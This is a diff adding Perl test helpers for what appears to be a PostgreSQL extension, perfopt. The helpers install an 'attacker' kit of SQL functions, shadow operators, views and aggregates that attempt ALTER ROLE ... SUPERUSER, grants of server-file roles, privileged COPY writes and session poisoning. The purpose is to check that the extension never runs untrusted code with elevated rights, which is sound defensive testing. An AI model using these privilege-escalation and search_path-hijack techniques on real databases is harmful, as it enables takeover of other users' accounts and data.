@@ -521,4 +521,502 @@ sub httpd_hash_token
 	return $out;
 }
 
+# ---- attacker helpers (test/t/180_attacker_*.pl) ----
+#
+# An ordinary LOGIN role "attacker" that owns schema attacker and nothing
+# else writes code that perfopt may run: functions the planner folds,
+# views, policies, index and statistics expressions, operators, types.
+# Every piece of it calls attacker.trace(tag), which
+#   - logs "attack <tag> ran as <current_user> (session user <session_user>)"
+#     (RAISE LOG: the server log keeps it even when the step is rolled
+#     back);
+#   - tries to escalate: ALTER ROLE attacker SUPERUSER ..., GRANT the
+#     current role and the server-file roles to attacker, and COPY a
+#     marker file into $evidence_dir (a superuser's COPY is not undone by
+#     a rollback);
+#   - when it runs in a session that is not the attacker's own (session
+#     user not attacker), poisons that session: the settings of
+#     attack_poisoned_settings() with set_config(..., false), a temporary
+#     view and function named like perfopt's, a prepared statement.
+# The tests read the log (attack_runs), the attacker's role
+# (attack_role_state), the marker files (attack_evidence) and the
+# caller's session (attack_session_sql).
+
+push @EXPORT, qw(
+  psql_as
+  attack_kit_sql
+  attack_runs
+  attack_foreign_runs
+  attack_role_state
+  attack_evidence
+  attack_session_sql
+  attack_db_role_settings
+  attack_poisoned_settings
+);
+
+# safe_psql as another role (a connection of its own, -U role)
+sub psql_as
+{
+	my ($node, $db, $role, $sql) = @_;
+	return $node->safe_psql($db, $sql, extra_params => [ '-U', $role ]);
+}
+
+# the settings attacker.trace() poisons in another role's session, and the
+# value it sets them to
+sub attack_poisoned_settings
+{
+	return (
+		search_path => 'attacker, pg_catalog, public',
+		default_transaction_read_only => 'on',
+		statement_timeout => '4321s',
+		lock_timeout => '4321s',
+		idle_in_transaction_session_timeout => '4321s',
+		application_name => 'attacker-poisoned',
+		work_mem => '4321kB',
+		DateStyle => 'SQL, DMY',
+		enable_indexscan => 'off',
+		'attacker.marker' => 'poisoned');
+}
+
+# SQL to run as the attacker (psql_as ... 'attacker'): attacker.trace(),
+# attacker.imm(tag) (IMMUTABLE: the planner folds it when tag is a
+# constant, as in a view, policy or index definition; returns 1),
+# attacker.stab(tag) (STABLE), attacker.flags (one row, armed: for code
+# that misbehaves only once armed), the outside review's operator
+# attacker.>(bigint, integer) and attacker.poison(), and objects that
+# shadow what perfopt's SQL names: operators, functions, aggregates,
+# types (domains) and relations of pg_catalog, tables named like
+# perfopt's.  Shadows call trace() and then compute the right answer (a
+# stealthy attacker).
+sub attack_kit_sql
+{
+	my ($evidence_dir) = @_;
+	my %gucs = attack_poisoned_settings();
+	my $poison = join("\n",
+		map { "    PERFORM pg_catalog.set_config('$_', '$gucs{$_}', false);" } sort keys %gucs);
+	(my $dir = $evidence_dir) =~ s/'/''/g;
+	my $sql = <<'SQL';
+CREATE TABLE attacker.flags (armed boolean NOT NULL);
+INSERT INTO attacker.flags VALUES (false);
+CREATE FUNCTION attacker.trace(tag pg_catalog.text) RETURNS pg_catalog.bool
+LANGUAGE plpgsql VOLATILE AS $fn$
+DECLARE
+  me pg_catalog.text := CURRENT_USER;
+BEGIN
+  RAISE LOG 'attack % ran as % (session user %)', tag, me, SESSION_USER;
+  BEGIN
+    EXECUTE 'ALTER ROLE attacker SUPERUSER CREATEROLE CREATEDB REPLICATION BYPASSRLS';
+  EXCEPTION WHEN OTHERS THEN NULL;
+  END;
+  BEGIN
+    EXECUTE pg_catalog.format('GRANT %I TO attacker', me);
+  EXCEPTION WHEN OTHERS THEN NULL;
+  END;
+  BEGIN
+    EXECUTE 'GRANT pg_execute_server_program, pg_write_server_files, pg_read_server_files, pg_read_all_data TO attacker';
+  EXCEPTION WHEN OTHERS THEN NULL;
+  END;
+  BEGIN
+    EXECUTE pg_catalog.format('COPY (SELECT %L) TO %L',
+      tag OPERATOR(pg_catalog.||) ' ran as ' OPERATOR(pg_catalog.||) me,
+      '@DIR@/escaped-' OPERATOR(pg_catalog.||)
+        pg_catalog.regexp_replace(tag, '[^a-zA-Z0-9_-]', '_', 'g') OPERATOR(pg_catalog.||) '-' OPERATOR(pg_catalog.||) me);
+  EXCEPTION WHEN OTHERS THEN NULL;
+  END;
+  IF SESSION_USER OPERATOR(pg_catalog.<>) 'attacker' THEN
+@POISON@
+    BEGIN
+      EXECUTE 'CREATE TEMPORARY VIEW perfopt_recommendations AS SELECT 1 AS id';
+    EXCEPTION WHEN OTHERS THEN NULL;
+    END;
+    BEGIN
+      EXECUTE 'CREATE FUNCTION pg_temp.perfopt_status() RETURNS pg_catalog.jsonb LANGUAGE sql AS ''SELECT NULL::pg_catalog.jsonb''';
+    EXCEPTION WHEN OTHERS THEN NULL;
+    END;
+    BEGIN
+      EXECUTE 'PREPARE attacker_prepared AS SELECT 1';
+    EXCEPTION WHEN OTHERS THEN NULL;
+    END;
+  END IF;
+  RETURN true;
+END $fn$;
+CREATE FUNCTION attacker.imm(tag pg_catalog.text) RETURNS pg_catalog.int8
+LANGUAGE plpgsql IMMUTABLE AS $fn$
+BEGIN
+  PERFORM attacker.trace(tag);
+  RETURN 1;
+END $fn$;
+CREATE FUNCTION attacker.stab(tag pg_catalog.text) RETURNS pg_catalog.int8
+LANGUAGE plpgsql STABLE AS $fn$
+BEGIN
+  PERFORM attacker.trace(tag);
+  RETURN 1;
+END $fn$;
+
+-- the outside review's exploit, as it was reported
+CREATE FUNCTION attacker.gt(pg_catalog.int8, pg_catalog.int4) RETURNS pg_catalog.bool
+LANGUAGE plpgsql AS $fn$
+BEGIN
+  RAISE LOG 'attack operator-gt ran as % (session user %)', CURRENT_USER, SESSION_USER;
+  BEGIN
+    EXECUTE 'ALTER ROLE attacker SUPERUSER';
+  EXCEPTION WHEN OTHERS THEN NULL;
+  END;
+  RETURN $1 OPERATOR(pg_catalog.>) $2;
+END $fn$;
+CREATE OPERATOR attacker.> (LEFTARG = pg_catalog.int8, RIGHTARG = pg_catalog.int4, FUNCTION = attacker.gt);
+CREATE FUNCTION attacker.poison() RETURNS pg_catalog.int8
+LANGUAGE plpgsql IMMUTABLE AS $fn$
+BEGIN
+  RAISE LOG 'attack poison ran as % (session user %)', CURRENT_USER, SESSION_USER;
+  PERFORM pg_catalog.set_config('search_path', 'attacker, pg_catalog', false);
+  RETURN 5;
+END $fn$;
+
+-- shadows of what perfopt's SQL names
+DO $do$
+DECLARE
+  t pg_catalog.text;
+  op pg_catalog.text;
+  n pg_catalog.int4 := 0;
+BEGIN
+  FOREACH t IN ARRAY ARRAY['int4', 'int8', 'text', 'oid', 'float8', 'numeric', 'timestamptz', 'name', 'bool'] LOOP
+    FOREACH op IN ARRAY ARRAY['=', '<>', '<', '>', '<=', '>='] LOOP
+      n := n OPERATOR(pg_catalog.+) 1;
+      EXECUTE pg_catalog.format('CREATE FUNCTION attacker.shadow_op_%s(a pg_catalog.%s, b pg_catalog.%s) RETURNS pg_catalog.bool'
+        ' LANGUAGE sql AS %L', n, t, t,
+        pg_catalog.format('SELECT attacker.trace(%L) AND (a OPERATOR(pg_catalog.%s) b)',
+                          'shadow-operator-' OPERATOR(pg_catalog.||) t, op));
+      EXECUTE pg_catalog.format('CREATE OPERATOR attacker.%s (LEFTARG = pg_catalog.%s, RIGHTARG = pg_catalog.%s,'
+        ' FUNCTION = attacker.shadow_op_%s)', op, t, t, n);
+    END LOOP;
+    EXECUTE pg_catalog.format('CREATE DOMAIN attacker.%1$s AS pg_catalog.%1$s CHECK (attacker.trace(%2$L))',
+                              t, 'shadow-type-' OPERATOR(pg_catalog.||) t);
+  END LOOP;
+  -- the mixed comparisons perfopt's SQL uses (bigint against integer)
+  FOREACH op IN ARRAY ARRAY['=', '<>', '<', '<=', '>='] LOOP
+    n := n OPERATOR(pg_catalog.+) 1;
+    EXECUTE pg_catalog.format('CREATE FUNCTION attacker.shadow_op_%s(a pg_catalog.int8, b pg_catalog.int4) RETURNS pg_catalog.bool'
+      ' LANGUAGE sql AS %L', n,
+      pg_catalog.format('SELECT attacker.trace(''shadow-operator-int84'') AND (a OPERATOR(pg_catalog.%s) b)', op));
+    EXECUTE pg_catalog.format('CREATE OPERATOR attacker.%s (LEFTARG = pg_catalog.int8, RIGHTARG = pg_catalog.int4,'
+      ' FUNCTION = attacker.shadow_op_%s)', op, n);
+  END LOOP;
+  FOREACH t IN ARRAY ARRAY['jsonb', 'regclass', 'interval', 'float4'] LOOP
+    EXECUTE pg_catalog.format('CREATE DOMAIN attacker.%1$s AS pg_catalog.%1$s CHECK (attacker.trace(%2$L))',
+                              t, 'shadow-type-' OPERATOR(pg_catalog.||) t);
+  END LOOP;
+END
+$do$;
+CREATE FUNCTION attacker.shadow_like(a pg_catalog.text, b pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE sql
+  AS $$ SELECT attacker.trace('shadow-operator-like') AND (a OPERATOR(pg_catalog.~~) b) $$;
+CREATE OPERATOR attacker.~~ (LEFTARG = pg_catalog.text, RIGHTARG = pg_catalog.text, FUNCTION = attacker.shadow_like);
+CREATE FUNCTION attacker.shadow_notlike(a pg_catalog.text, b pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE sql
+  AS $$ SELECT attacker.trace('shadow-operator-notlike') AND (a OPERATOR(pg_catalog.!~~) b) $$;
+CREATE OPERATOR attacker.!~~ (LEFTARG = pg_catalog.text, RIGHTARG = pg_catalog.text, FUNCTION = attacker.shadow_notlike);
+CREATE FUNCTION attacker.shadow_cat(a pg_catalog.text, b pg_catalog.text) RETURNS pg_catalog.text LANGUAGE sql
+  AS $$ SELECT CASE WHEN attacker.trace('shadow-operator-concat') THEN a OPERATOR(pg_catalog.||) b END $$;
+CREATE OPERATOR attacker.|| (LEFTARG = pg_catalog.text, RIGHTARG = pg_catalog.text, FUNCTION = attacker.shadow_cat);
+CREATE FUNCTION attacker.shadow_tsminus(a pg_catalog.timestamptz, b pg_catalog.timestamptz) RETURNS pg_catalog.interval
+  LANGUAGE sql AS $$ SELECT CASE WHEN attacker.trace('shadow-operator-tsminus') THEN a OPERATOR(pg_catalog.-) b END $$;
+CREATE OPERATOR attacker.- (LEFTARG = pg_catalog.timestamptz, RIGHTARG = pg_catalog.timestamptz, FUNCTION = attacker.shadow_tsminus);
+CREATE FUNCTION attacker.shadow_plus(a pg_catalog.int8, b pg_catalog.int8) RETURNS pg_catalog.int8 LANGUAGE sql
+  AS $$ SELECT CASE WHEN attacker.trace('shadow-operator-plus') THEN a OPERATOR(pg_catalog.+) b END $$;
+CREATE OPERATOR attacker.+ (LEFTARG = pg_catalog.int8, RIGHTARG = pg_catalog.int8, FUNCTION = attacker.shadow_plus);
+CREATE FUNCTION attacker.shadow_jtext(a pg_catalog.jsonb, b pg_catalog.text) RETURNS pg_catalog.text LANGUAGE sql
+  AS $$ SELECT CASE WHEN attacker.trace('shadow-operator-json-text') THEN a OPERATOR(pg_catalog.->>) b END $$;
+CREATE OPERATOR attacker.->> (LEFTARG = pg_catalog.jsonb, RIGHTARG = pg_catalog.text, FUNCTION = attacker.shadow_jtext);
+CREATE FUNCTION attacker.shadow_jget(a pg_catalog.jsonb, b pg_catalog.text) RETURNS pg_catalog.jsonb LANGUAGE sql
+  AS $$ SELECT CASE WHEN attacker.trace('shadow-operator-json') THEN a OPERATOR(pg_catalog.->) b END $$;
+CREATE OPERATOR attacker.-> (LEFTARG = pg_catalog.jsonb, RIGHTARG = pg_catalog.text, FUNCTION = attacker.shadow_jget);
+CREATE FUNCTION attacker.now() RETURNS pg_catalog.timestamptz LANGUAGE sql STABLE
+  AS $$ SELECT CASE WHEN attacker.trace('shadow-function-now') THEN pg_catalog.now() END $$;
+CREATE FUNCTION attacker.lower(pg_catalog.text) RETURNS pg_catalog.text LANGUAGE sql
+  AS $$ SELECT CASE WHEN attacker.trace('shadow-function-lower') THEN pg_catalog.lower($1) END $$;
+CREATE FUNCTION attacker.quote_ident(pg_catalog.text) RETURNS pg_catalog.text LANGUAGE sql
+  AS $$ SELECT CASE WHEN attacker.trace('shadow-function-quote_ident') THEN pg_catalog.quote_ident($1) END $$;
+CREATE FUNCTION attacker.quote_literal(pg_catalog.text) RETURNS pg_catalog.text LANGUAGE sql
+  AS $$ SELECT CASE WHEN attacker.trace('shadow-function-quote_literal') THEN pg_catalog.quote_literal($1) END $$;
+CREATE FUNCTION attacker.to_regclass(pg_catalog.text) RETURNS pg_catalog.regclass LANGUAGE sql
+  AS $$ SELECT CASE WHEN attacker.trace('shadow-function-to_regclass') THEN pg_catalog.to_regclass($1) END $$;
+CREATE FUNCTION attacker.current_database() RETURNS pg_catalog.name LANGUAGE sql
+  AS $$ SELECT CASE WHEN attacker.trace('shadow-function-current_database') THEN pg_catalog.current_database() END $$;
+CREATE FUNCTION attacker.pg_backend_pid() RETURNS pg_catalog.int4 LANGUAGE sql
+  AS $$ SELECT CASE WHEN attacker.trace('shadow-function-pg_backend_pid') THEN pg_catalog.pg_backend_pid() END $$;
+CREATE FUNCTION attacker.jsonb_array_elements(pg_catalog.jsonb) RETURNS SETOF pg_catalog.jsonb LANGUAGE sql
+  AS $$ SELECT e FROM pg_catalog.jsonb_array_elements($1) e WHERE attacker.trace('shadow-function-jsonb_array_elements') $$;
+CREATE FUNCTION attacker.count_step(pg_catalog.int8) RETURNS pg_catalog.int8 LANGUAGE sql
+  AS $$ SELECT CASE WHEN attacker.trace('shadow-aggregate-count') THEN $1 OPERATOR(pg_catalog.+) 1 END $$;
+CREATE AGGREGATE attacker.count(*) (SFUNC = attacker.count_step, STYPE = pg_catalog.int8, INITCOND = '0');
+CREATE FUNCTION attacker.max_step(pg_catalog.int8, pg_catalog.int8) RETURNS pg_catalog.int8 LANGUAGE sql
+  AS $$ SELECT CASE WHEN attacker.trace('shadow-aggregate-max') THEN GREATEST($1, $2) END $$;
+CREATE AGGREGATE attacker.max(pg_catalog.int8) (SFUNC = attacker.max_step, STYPE = pg_catalog.int8);
+CREATE FUNCTION attacker.sum_step(pg_catalog.float8, pg_catalog.float8) RETURNS pg_catalog.float8 LANGUAGE sql
+  AS $$ SELECT CASE WHEN attacker.trace('shadow-aggregate-sum') THEN COALESCE($1, 0) OPERATOR(pg_catalog.+) $2 END $$;
+CREATE AGGREGATE attacker.sum(pg_catalog.float8) (SFUNC = attacker.sum_step, STYPE = pg_catalog.float8);
+CREATE VIEW attacker.pg_stat_activity AS
+  SELECT * FROM pg_catalog.pg_stat_activity WHERE attacker.trace('shadow-relation-pg_stat_activity');
+CREATE VIEW attacker.pg_class AS SELECT * FROM pg_catalog.pg_class WHERE attacker.trace('shadow-relation-pg_class');
+CREATE VIEW attacker.pg_namespace AS
+  SELECT * FROM pg_catalog.pg_namespace WHERE attacker.trace('shadow-relation-pg_namespace');
+CREATE VIEW attacker.pg_index AS SELECT * FROM pg_catalog.pg_index WHERE attacker.trace('shadow-relation-pg_index');
+CREATE VIEW attacker.pg_roles AS SELECT * FROM pg_catalog.pg_roles WHERE attacker.trace('shadow-relation-pg_roles');
+CREATE VIEW attacker.pg_database AS
+  SELECT * FROM pg_catalog.pg_database WHERE attacker.trace('shadow-relation-pg_database');
+CREATE VIEW attacker.pg_stat_user_indexes AS
+  SELECT * FROM pg_catalog.pg_stat_user_indexes WHERE attacker.trace('shadow-relation-pg_stat_user_indexes');
+CREATE VIEW attacker.pg_stat_user_tables AS
+  SELECT * FROM pg_catalog.pg_stat_user_tables WHERE attacker.trace('shadow-relation-pg_stat_user_tables');
+CREATE TABLE attacker.perfopt_jobs (id int);
+CREATE TABLE attacker.perfopt_recommendations (id int);
+CREATE TABLE attacker.perfopt_audit_log (id int);
+CREATE TABLE attacker.pg_stat_statements (id int);
+SQL
+	$sql =~ s/\@DIR\@/$dir/g;
+	$sql =~ s/\@POISON\@/$poison/;
+	return $sql;
+}
+
+# The "attack <tag> ran as <role> (session user <role>)" lines of the
+# server log from byte $offset on: a list of {tag, role, session, pid, line}.
+sub attack_runs
+{
+	my ($node, $offset) = @_;
+	my @runs;
+	for my $line (split /\n/, log_since($node, $offset))
+	{
+		next unless $line =~ /\[(\d+)\] .*?LOG:  attack (\S+) ran as (\S+) \(session user (\S+)\)/;
+		push @runs, { pid => $1, tag => $2, role => $3, session => $4, line => $line };
+	}
+	return @runs;
+}
+
+# Those of attack_runs() that did not run as the attacker, as log lines.
+sub attack_foreign_runs
+{
+	my ($node, $offset) = @_;
+	return map { $_->{line} } grep { $_->{role} ne 'attacker' } attack_runs($node, $offset);
+}
+
+# A role's attributes and memberships in one line, to compare with
+# "super=f createrole=f createdb=f replication=f bypassrls=f member_of="
+sub attack_role_state
+{
+	my ($node, $db, $role) = @_;
+	$role //= 'attacker';
+	return $node->safe_psql($db, qq{
+SELECT pg_catalog.format('super=%s createrole=%s createdb=%s replication=%s bypassrls=%s member_of=%s',
+       r.rolsuper, r.rolcreaterole, r.rolcreatedb, r.rolreplication, r.rolbypassrls,
+       (SELECT pg_catalog.string_agg(m.roleid::pg_catalog.regrole::pg_catalog.text, ',' ORDER BY m.roleid)
+          FROM pg_catalog.pg_auth_members m WHERE m.member OPERATOR(pg_catalog.=) r.oid))
+FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) '$role'});
+}
+
+# The files attacker.trace() wrote with a privileged COPY ("escaped-*").
+sub attack_evidence
+{
+	my ($dir) = @_;
+	opendir(my $dh, $dir) or return ("(cannot read $dir: $!)");
+	my @files = sort grep { /^escaped-/ } readdir $dh;
+	closedir $dh;
+	return @files;
+}
+
+# A query that describes the session it runs in, in one line: every
+# setting attacker.trace() poisons, and the temporary objects, prepared
+# statements, cursors and LISTENs it holds.  Names are qualified and no
+# operator is implied, so that a poisoned search_path cannot redirect the
+# query itself.  An unset custom setting and an empty one read the same.
+sub attack_session_sql
+{
+	my %gucs = attack_poisoned_settings();
+	my $list = join(",\n  ",
+		map { "pg_catalog.concat('$_=', pg_catalog.current_setting('$_', true))" } sort keys %gucs);
+	return qq{SELECT pg_catalog.concat_ws(' | ',
+  $list,
+  pg_catalog.concat('transaction_read_only=', pg_catalog.current_setting('transaction_read_only')),
+  pg_catalog.concat('temp_relations=', (SELECT pg_catalog.count(*) FROM pg_catalog.pg_class c
+     WHERE c.relnamespace OPERATOR(pg_catalog.=) pg_catalog.pg_my_temp_schema())),
+  pg_catalog.concat('temp_functions=', (SELECT pg_catalog.count(*) FROM pg_catalog.pg_proc p
+     WHERE p.pronamespace OPERATOR(pg_catalog.=) pg_catalog.pg_my_temp_schema())),
+  pg_catalog.concat('prepared=', (SELECT pg_catalog.count(*) FROM pg_catalog.pg_prepared_statements)),
+  pg_catalog.concat('cursors=', (SELECT pg_catalog.count(*) FROM pg_catalog.pg_cursors)),
+  pg_catalog.concat('listening=', (SELECT pg_catalog.count(*) FROM pg_catalog.pg_listening_channels())))};
+}
+
+# pg_db_role_setting in one line (what ALTER ROLE/DATABASE ... SET left),
+# without the attacker's own role, which it may set itself.
+sub attack_db_role_settings
+{
+	my ($node, $db) = @_;
+	return $node->safe_psql($db, q{
+SELECT COALESCE(pg_catalog.string_agg(pg_catalog.format('%s/%s: %s', s.setdatabase, s.setrole, s.setconfig),
+       '; ' ORDER BY s.setdatabase, s.setrole), '')
+FROM pg_catalog.pg_db_role_setting s
+WHERE s.setrole OPERATOR(pg_catalog.<>) COALESCE((SELECT r.oid FROM pg_catalog.pg_roles r
+      WHERE r.rolname OPERATOR(pg_catalog.=) 'attacker'), 0)});
+}
+
+# ---- the attack scene: one database with the attacker's objects, a
+# recorded workload that touches them, and the changes the attacker makes
+# under that workload.  attack_scene_setup, then pg_stat_statements_reset()
+# and attack_scene_workload, then attack_scene_arm.
+#
+# Roles (cluster-wide, created once): attacker (LOGIN, owns schema
+# attacker), app (LOGIN, owns schema app, granted SELECT on the
+# attacker's table and view), auditor (LOGIN, BYPASSRLS, granted the
+# same).  Objects: attacker.t (20000 rows, k with 20 rows per value),
+# attacker.w (a table the superuser reads; later a view), attacker.norm()
+# and attacker.rows_of() (SQL functions the superuser calls; later
+# replaced), attacker.vapp (a view app and auditor read; later calling
+# the attacker's code), attacker.f_own() (the attacker's own statement),
+# attacker.slow() (sleeps 60 s once attacker.flags is armed), the range
+# type attacker.frange whose subtype_diff is the attacker's (app's table
+# app.slots has a column of it; the planner's range estimator calls it),
+# app.orders (app's own table).
+
+push @EXPORT, qw(
+  attack_workload
+  attack_scene_setup
+  attack_scene_workload
+  attack_scene_arm
+  attack_planned_tags
+  attack_two_owner_statement
+);
+
+# Run statements as $role, one session, output discarded.
+sub attack_workload
+{
+	my ($node, $db, $role, @stmts) = @_;
+	psql_as($node, $db, $role, "\\o /dev/null\n" . join('', map { "$_;\n" } @stmts));
+	return;
+}
+
+# the tags of the attacker's code that planning the scene's workload runs
+# (as the attacker)
+sub attack_planned_tags
+{
+	return qw(view-swap sql-function-swap srf-swap view-for-app rls-policy statistics-expression own-statement);
+}
+
+# the normalized text of app's statement that touches app's and the
+# attacker's objects (no single role may plan it)
+sub attack_two_owner_statement
+{
+	return 'SELECT count(*) FROM app.orders o JOIN attacker.vapp a ON a.k = o.k WHERE o.k = $1';
+}
+
+sub attack_scene_setup
+{
+	my ($node, $db, $evidence_dir) = @_;
+	$node->safe_psql(
+		$db, q{
+DO $$
+BEGIN
+  IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'attacker') THEN
+    CREATE ROLE attacker LOGIN;
+    CREATE ROLE app LOGIN;
+    CREATE ROLE auditor LOGIN BYPASSRLS;
+  END IF;
+END $$;
+CREATE SCHEMA attacker AUTHORIZATION attacker;
+CREATE SCHEMA app AUTHORIZATION app;
+});
+	psql_as($node, $db, 'attacker', attack_kit_sql($evidence_dir));
+	psql_as(
+		$node, $db, 'attacker', q{
+CREATE DOMAIN attacker.posint AS int;
+CREATE TABLE attacker.t (id int NOT NULL, k int NOT NULL, v bigint NOT NULL, d attacker.posint, note text);
+INSERT INTO attacker.t SELECT g, g % 1000, g, g, 'n' FROM generate_series(1, 20000) g;
+CREATE TABLE attacker.w (id int NOT NULL, k int NOT NULL, note text);
+INSERT INTO attacker.w SELECT g, g % 1000, repeat('w', 20) FROM generate_series(1, 20000) g;
+VACUUM ANALYZE attacker.t;
+VACUUM ANALYZE attacker.w;
+CREATE FUNCTION attacker.norm(int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT $1';
+CREATE FUNCTION attacker.rows_of(int) RETURNS SETOF attacker.t LANGUAGE sql STABLE
+  AS 'SELECT * FROM attacker.t WHERE k = $1';
+CREATE VIEW attacker.vapp AS SELECT * FROM attacker.t;
+CREATE FUNCTION attacker.f_own() RETURNS bigint LANGUAGE plpgsql IMMUTABLE
+  AS $$ BEGIN PERFORM attacker.trace('own-statement'); RETURN 7; END $$;
+CREATE FUNCTION attacker.slow() RETURNS bigint LANGUAGE plpgsql IMMUTABLE AS $$
+BEGIN
+  IF (SELECT f.armed FROM attacker.flags f) THEN
+    PERFORM attacker.trace('slow');
+    PERFORM pg_catalog.pg_sleep(60);
+  END IF;
+  RETURN 3;
+END $$;
+CREATE FUNCTION attacker.fdiff(a float8, b float8) RETURNS float8 LANGUAGE sql IMMUTABLE AS 'SELECT a - b';
+CREATE TYPE attacker.frange AS RANGE (SUBTYPE = float8, SUBTYPE_DIFF = attacker.fdiff);
+GRANT USAGE ON SCHEMA attacker TO app, auditor;
+GRANT SELECT ON attacker.t, attacker.vapp TO app, auditor;
+});
+	$node->safe_psql($db, lookup_table_sql('app.orders', 20000) . 'ALTER TABLE app.orders OWNER TO app;');
+	psql_as(
+		$node, $db, 'app', q{
+CREATE TABLE app.slots (id int NOT NULL, during attacker.frange NOT NULL);
+INSERT INTO app.slots SELECT g, attacker.frange(g, g + 10) FROM generate_series(1, 20000) g;
+ANALYZE app.slots;
+});
+	return;
+}
+
+sub attack_scene_workload
+{
+	my ($node, $db) = @_;
+	my @ks = (1 .. 20);
+	attack_workload(
+		$node, $db, 'postgres',
+		(map { "SELECT count(*) FROM attacker.w WHERE k = $_" } @ks),
+		(map { "SELECT count(*) FROM attacker.t WHERE k = attacker.norm($_)" } @ks),
+		(map { "SELECT count(*) FROM attacker.rows_of($_)" } @ks),
+		(map { "SELECT count(*) FROM attacker.t WHERE k = $_" } @ks),
+		(map { "SELECT count(*) FROM attacker.t WHERE d = $_" } @ks));
+	attack_workload(
+		$node, $db, 'app',
+		(map { "SELECT count(*) FROM attacker.t WHERE k = $_" } @ks),
+		(map { "SELECT count(*) FROM attacker.vapp WHERE k = $_" } @ks),
+		(map { "SELECT count(*) FROM app.orders o JOIN attacker.vapp a ON a.k = o.k WHERE o.k = $_" } @ks),
+		('SELECT count(*) FROM app.slots WHERE during @> pi()') x 5);
+	attack_workload($node, $db, 'auditor', map { "SELECT count(*) FROM attacker.vapp WHERE k = $_" } @ks);
+	attack_workload($node, $db, 'attacker', ('SELECT count(*) FROM attacker.t WHERE v = attacker.f_own()') x 2,
+		'SELECT count(*) FROM attacker.t WHERE v = attacker.slow()');
+	# the review's statement, each in a session of its own (it poisons the
+	# session it runs in)
+	attack_workload($node, $db, 'attacker', 'SELECT count(*) FROM attacker.t WHERE v = attacker.poison()')
+	  for 1 .. 2;
+	return;
+}
+
+sub attack_scene_arm
+{
+	my ($node, $db) = @_;
+	psql_as(
+		$node, $db, 'attacker', q{
+ALTER TABLE attacker.w RENAME TO w_old;
+CREATE VIEW attacker.w AS SELECT * FROM attacker.w_old WHERE attacker.imm('view-swap') > 0;
+CREATE OR REPLACE FUNCTION attacker.norm(int) RETURNS int LANGUAGE sql IMMUTABLE
+  AS 'SELECT $1 + (attacker.imm(''sql-function-swap'') * 0)::int';
+CREATE OR REPLACE FUNCTION attacker.rows_of(int) RETURNS SETOF attacker.t LANGUAGE sql STABLE
+  AS 'SELECT * FROM attacker.t WHERE k = $1 AND attacker.imm(''srf-swap'') > 0';
+CREATE OR REPLACE VIEW attacker.vapp AS SELECT * FROM attacker.t WHERE attacker.imm('view-for-app') > 0;
+CREATE OR REPLACE FUNCTION attacker.fdiff(a float8, b float8) RETURNS float8 LANGUAGE plpgsql IMMUTABLE
+  AS $$ BEGIN PERFORM attacker.trace('range-subtype-diff'); RETURN a - b; END $$;
+CREATE INDEX t_expr ON attacker.t ((v + attacker.imm('index-expression')));
+CREATE INDEX t_pred ON attacker.t (id) WHERE attacker.imm('index-predicate') > 0;
+CREATE STATISTICS attacker.t_stats ON (v + attacker.imm('statistics-expression')) FROM attacker.t;
+ALTER DOMAIN attacker.posint ADD CONSTRAINT posint_check CHECK (attacker.trace('domain-check')) NOT VALID;
+ALTER TABLE attacker.t ADD CONSTRAINT t_check CHECK (attacker.trace('check-constraint')) NOT VALID;
+ALTER TABLE attacker.t ALTER COLUMN note SET DEFAULT (attacker.trace('column-default'))::text;
+CREATE FUNCTION attacker.trg() RETURNS trigger LANGUAGE plpgsql
+  AS $$ BEGIN PERFORM attacker.trace('trigger'); RETURN NULL; END $$;
+CREATE TRIGGER t_trg BEFORE INSERT OR UPDATE OR DELETE ON attacker.t FOR EACH ROW EXECUTE FUNCTION attacker.trg();
+ALTER TABLE attacker.t ENABLE ROW LEVEL SECURITY;
+ALTER TABLE attacker.t FORCE ROW LEVEL SECURITY;
+CREATE POLICY t_policy ON attacker.t USING (attacker.imm('rls-policy') > 0);
+ANALYZE attacker.t;
+});
+	return;
+}
+
 1;
